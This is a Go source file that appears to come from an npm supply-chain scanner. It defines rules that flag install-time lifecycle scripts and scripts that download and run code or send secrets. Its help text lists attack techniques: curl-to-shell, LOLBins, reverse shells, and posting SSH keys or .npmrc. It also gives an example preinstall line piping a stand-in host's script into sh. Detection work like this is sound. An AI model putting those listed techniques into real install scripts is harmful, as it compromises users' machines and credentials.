// Package install holds rules about what runs when a package is installed.
package install

import (
	"context"
	"fmt"
	"path"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// LifecycleScript reports install-time scripts.
type LifecycleScript struct{}

// Meta implements analyze.Rule.
func (LifecycleScript) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "install/lifecycle-script", Version: 2, Title: "Runs code at install time",
		Help: "The package declares a preinstall, install, postinstall or prepare script (or ships binding.gyp, which makes npm run node-gyp). " +
			"Such code runs with your user's rights on every install, before you have used the package; most install-time malware starts here. " +
			"Many legitimate packages build native code or download a platform binary at install, so this is context, not a verdict. " +
			"A prepare script is informational: npm, yarn and pnpm run it when installing from git or a local folder, never for a package " +
			"from a registry (published package.json files keep their build's prepare).",
		Remediation:     "Check what the script runs. Install with --ignore-scripts where you can, and allow scripts only for packages that need them.",
		Example:         `"scripts": { "postinstall": "node setup.js" }`,
		DefaultSeverity: finding.SeverityLow, Signal: analyze.SigInstall, Needs: analyze.NeedManifest,
	}
}

// Check implements analyze.Rule.
func (LifecycleScript) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, s := range t.InstallScripts() {
		sev := finding.SeverityLow
		msg := fmt.Sprintf("%s script runs at install: %s", s.Hook, jsastClean(s.Command))
		switch {
		case strings.HasPrefix(s.Command, "node-gyp rebuild (implicit") || s.Command == "node-gyp rebuild":
			sev = finding.SeverityInfo
		case s.Hook == "prepare":
			sev = finding.SeverityInfo
			msg = "prepare script runs at git and local installs only: " + jsastClean(s.Command)
		}
		r.Report(analyze.Instance{File: "package.json", Message: msg,
			Evidence: rulekit.Ev(fmt.Sprintf("%q: %q", s.Hook, s.Command), "", ""), Severity: sev, Confidence: finding.ConfidenceHigh})
	}
	return nil
}

func jsastClean(s string) string {
	if len(s) > 120 {
		return s[:120] + "…"
	}
	return s
}

// ShellDownloadExec flags install scripts (and shell files they run)
// that download and execute code or send local secrets.
type ShellDownloadExec struct{}

// Meta implements analyze.Rule.
func (ShellDownloadExec) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "install/shell-download-exec", Version: 3, Title: "Install script downloads and runs code or sends secrets",
		Help: "An install-time shell command (a lifecycle script, a shell file it runs, or a command expansion <!(…) in the binding.gyp node-gyp " +
			"configures at install) pipes a download into a shell (curl | sh), runs an encoded PowerShell command, uses a Windows " +
			"download LOLBin (certutil, bitsadmin, mshta), runs a download through command substitution (sh -c \"$(curl ...)\", source <(curl ...)), " +
			"opens a reverse shell, or posts local secrets (SSH keys, .npmrc, the environment) with curl or a python -c one-liner. " +
			"Code fetched at install is invisible to any review of the package and can change at any time.",
		Remediation:     "Do not install this version. If it is a dependency, pin a known-good version or replace it, and rotate credentials if it already ran.",
		Example:         `"preinstall": "curl -s https://example.invalid/x.sh | sh"`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedManifest | analyze.NeedFiles,
	}
}

// Check implements analyze.Rule.
func (ShellDownloadExec) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	check := func(file, text string, line int) {
		if m := rulekit.ShellSendsSecrets(text); m != "" {
			r.Report(analyze.Instance{File: file, Line: line, Message: "install-time shell command sends local secrets off-host", Severity: finding.SeverityCritical,
				Evidence: rulekit.Ev(jsastClean(m), "", "command: "+jsastClean(text)), Confidence: finding.ConfidenceHigh, Signal: analyze.SigExfil})
			return
		}
		if m := rulekit.ShellDanger(text); m != "" {
			sev := finding.SeverityCritical
			trusted := true
			hosts := rulekit.URLs(text)
			for _, u := range hosts {
				if !rulekit.TrustedFor(t, rulekit.Host(u)) {
					trusted = false
				}
			}
			if trusted && len(hosts) > 0 {
				sev = finding.SeverityHigh
			}
			r.Report(analyze.Instance{File: file, Line: line, Message: "install-time command downloads and executes code", Severity: sev,
				Evidence: rulekit.Ev(jsastClean(m), "", ""), Confidence: finding.ConfidenceHigh})
		}
	}
	gyp := false
	for _, s := range t.InstallScripts() {
		check("package.json", s.Command, 0)
		gyp = gyp || strings.Contains(s.Command, "node-gyp")
	}
	// binding.gyp: node-gyp runs its command expansions, <!(cmd) and
	// <!@(cmd), while it configures the build at install
	if b, err := t.Read("binding.gyp"); gyp && err == nil {
		for i, line := range strings.Split(string(b), "\n") {
			if i > 5000 {
				break
			}
			for _, cmd := range gypCommands(line) {
				check("binding.gyp", cmd, i+1)
			}
		}
	}
	// shell scripts run at install, and any shipped shell file reachable
	for _, f := range t.Files() {
		ext := strings.ToLower(path.Ext(f))
		if ext != ".sh" && ext != ".bash" && ext != ".ps1" && ext != ".cmd" && ext != ".bat" {
			continue
		}
		if t.InstallHook(f) == "" && !t.Partial() {
			continue
		}
		b, err := t.Read(f)
		if err != nil {
			continue
		}
		text := string(b)
		found := false
		for i, line := range strings.Split(text, "\n") {
			if i > 5000 {
				break
			}
			if rulekit.ShellSendsSecrets(line) != "" || rulekit.ShellDanger(line) != "" {
				check(f, line, i+1)
				found = true
			}
		}
		if !found && len(text) < 64<<10 {
			// a secret read on one line and sent on the next
			check(f, strings.ReplaceAll(text, "\n", " ; "), 1)
		}
	}
	return nil
}

// gypCommands returns the commands of a gyp line's command expansions:
// <!(cmd), <!@(cmd), and their late forms >!(cmd), >!@(cmd).
func gypCommands(line string) []string {
	var out []string
	for i := 0; i+2 < len(line) && len(out) < 16; i++ {
		if (line[i] != '<' && line[i] != '>') || line[i+1] != '!' {
			continue
		}
		j := i + 2
		if j < len(line) && line[j] == '@' {
			j++
		}
		if j >= len(line) || line[j] != '(' {
			continue
		}
		depth, k := 0, j
		for ; k < len(line); k++ {
			if line[k] == '(' {
				depth++
			} else if line[k] == ')' {
				if depth--; depth == 0 {
					break
				}
			}
		}
		out = append(out, line[j+1:min(k, len(line))])
		i = k
	}
	return out
}
